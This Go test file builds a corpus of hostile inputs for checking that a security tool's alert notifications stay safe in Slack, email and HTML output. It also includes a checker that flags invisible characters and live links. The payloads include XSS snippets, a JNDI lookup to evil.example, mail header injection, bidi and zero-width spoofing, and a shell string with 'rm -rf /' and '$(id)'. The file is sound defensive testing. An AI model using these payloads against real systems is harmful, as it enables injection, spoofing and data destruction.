package notifytest

import (
	"regexp"
	"strings"
	"unicode"

	"github.com/tocsin-sec/tocsin"
	"github.com/tocsin-sec/tocsin/internal/notify"
)

// payloads are what somebody who chooses names, tags, user agents or domains
// may put into a finding.
var payloads = []struct{ name, text string }{
	{"slack-mention", `<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD> <!subteam^S012AB3CD|@oncall>`},
	{"slack-link", `<https://evil.example/login|AWS console> <mailto:a@evil.example|mail>`},
	{"slack-markup", "*bold* _italic_ ~strike~ `code` ```block``` > quote :fire: :aws: &lt;!channel&gt;"},
	{"html", `<script>alert(1)</script><img src=x onerror="alert(1)"><a href="https://evil.example">x</a></td></table><style>*{display:none}</style><!--`},
	{"html-attribute", `" onmouseover="alert(1)" style="background:url(https://evil.example/t.gif)" x="' onfocus='alert(1)`},
	{"template", `{{.Alert}} ${env:PATH} {% raw %} %s %d %n ${jndi:ldap://evil.example/a}`},
	{"ansi", "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \u009b31m \a\b\x7f"},
	{"header", "name\r\nBcc: everybody@evil.example\r\nSubject: pwned\r\n\r\nbody\n.\r\nMAIL FROM:<x@evil.example>"},
	{"bidi", "safe\u202egpj.exe\u202c \u2066evil\u2069 \u200e\u200f\u061c"},
	{"zero-width", "ev\u200bil\u200c.\u200dex\u2060am\ufeffple \u00ad \U000e0041\U000e007f"},
	{"long", strings.Repeat("A", 100<<10)},
	{"long-words", strings.Repeat("all work and no play ", 5<<10)},
	{"long-ampersands", strings.Repeat("&", 100<<10)},
	{"long-wide", strings.Repeat("𝔘🔥é", 20<<10)},
	{"invalid-utf8", "caf\xe9 \xff\xfe\x80\xc0\xaf \xed\xa0\x80 end"},
	{"links", "https://evil.example/a?b=c HTTP://EVIL.EXAMPLE ftp://evil.example www.evil.example evil.example user@evil.example evil。example xn--vil-9la.example javascript:alert(1) data:text/html,x http://203.0.113.7/x //evil.example/p"},
	{"markdown", "[click](https://evil.example) ![x](https://evil.example/x.png) # head\n- item\n| a | b |"},
	{"quotes", `'; rm -rf / #' "$(id)" \'\" | & ; > <`},
	{"nul", "a\x00b\x00c"},
}

// Corpus are messages whose every untrusted text is hostile.
func Corpus() []Case {
	cases := make([]Case, 0, len(payloads))
	for i, p := range payloads {
		m := openings()[0].Message
		switch i % 3 {
		case 1:
			m = news()[0].Message
		case 2:
			m = news()[1].Message
		}
		cases = append(cases, Case{p.name, poisoned(m, p.text)})
	}
	for _, p := range payloads {
		acknowledged := poisoned(life()[2].Message, p.text)
		acknowledged.Alert.AckedBy, acknowledged.Alert.Assignee, acknowledged.Team = p.text, p.text, p.text
		acknowledged.OnCall = []string{p.text, p.text}
		cases = append(cases, Case{p.name + "-acknowledged", acknowledged})

		digest := several()[0].Message
		bad := poisoned(openings()[0].Message, p.text)
		digest.Digest = nil
		for range 10 {
			digest.Digest = append(digest.Digest, notify.Item{Alert: bad.Alert, Account: bad.Account, URL: bad.AlertURL})
		}
		cases = append(cases, Case{p.name + "-in-a-digest", digest})

		note := several()[1].Message
		note.Text = "Schedule " + p.text + " has a gap."
		cases = append(cases, Case{p.name + "-in-a-note", note})
	}
	return append(cases, longLinks()...)
}

// longLinks are messages whose links take more room than most receivers have.
func longLinks() []Case {
	room := strings.Repeat("x", 1800)
	m := life()[0].Message
	m.AlertURL += "?" + room
	m.Alert.Console += room
	m.Alert.Documentation += "?" + room
	actions := m.Actions
	m.Actions = nil
	for i := range 12 {
		a := actions[i%len(actions)]
		a.URL += "&" + room
		m.Actions = append(m.Actions, a)
	}
	digest := several()[0].Message
	for range 100 {
		digest.Digest = append(digest.Digest, notify.Item{Alert: m.Alert, Account: m.Account, URL: m.AlertURL})
	}
	note := several()[1].Message
	note.AlertURL = m.AlertURL
	return []Case{{"long-links", m}, {"long-links-in-a-digest", digest}, {"long-links-in-a-note", note}}
}

// poisoned is the message with the payload wherever a finding, an event or a
// name could bring it.
func poisoned(m notify.Message, text string) notify.Message {
	a := &m.Alert
	a.Headline, a.Title, a.Description = "EC2 "+text+" is calling", text, text+"\n"+text
	a.Type, a.Detection.ID, a.Region, a.ReportedBy = text, text, text, text
	a.Account, m.Account = text, tocsin.Account{ID: text, Name: text, Environment: text, Team: text}
	a.Resource = tocsin.Resource{Type: text, ID: text, Name: text, Tags: map[string]string{"k" + text: text}}
	a.Actor = tocsin.Actor{IP: text, Country: text, Org: text, Domain: text, Principal: text}
	a.Facts = nil
	for range 14 {
		a.Facts = append(a.Facts, tocsin.Fact{Name: text, Value: text})
	}
	a.Facts = append(a.Facts[:3:3], append([]tocsin.Fact{{Name: "User agent", Value: text}}, a.Facts[3:]...)...)
	a.Command = "aws ec2 describe-instances --filters 'Name=tag:Name,Values=" + text + "'"
	a.Console, a.Documentation = "https://evil.example/"+text, "javascript:alert('"+text+"')"
	a.CloseReason, a.ClosedBy, a.Rule = tocsin.Reason(text), text, text
	m.Why = text
	m.Changes = append(m.Changes, tocsin.Change{What: "principal", From: text, To: text}, tocsin.Change{What: text, To: text})
	return m
}

// live finds what a mail reader or chat program would turn into a link.
var live = regexp.MustCompile(`(?i)\b(?:https?|ftp|ldap):/|\bjavascript:|\bdata:text|\bmailto:|evil[.。．｡]example|www\.evil|http://203\.0\.113\.7`)

// Bad says what is wrong with a text that a receiver shows: characters that show
// nothing or turn the text around, and live links other than ours. Line breaks
// are fine. It is "" for a good text.
func Bad(text string, ours ...string) string {
	for _, own := range ours {
		if own != "" {
			text = strings.ReplaceAll(text, own, "")
		}
	}
	for _, r := range text {
		if r != '\n' && r != '\r' && r != '\t' && unicode.Is(unicode.C, r) {
			return "holds the invisible character " + strings.Trim(strings.ToUpper(quote(r)), `"`)
		}
	}
	if found := live.FindString(text); found != "" {
		at := strings.Index(text, found)
		return "holds a live link: …" + text[max(0, at-20):min(len(text), at+40)]
	}
	return ""
}

func quote(r rune) string {
	const digits = "0123456789abcdef"
	out := []byte(`u+`)
	for shift := 20; shift >= 0; shift -= 4 {
		out = append(out, digits[(r>>shift)&15])
	}
	return string(out)
}
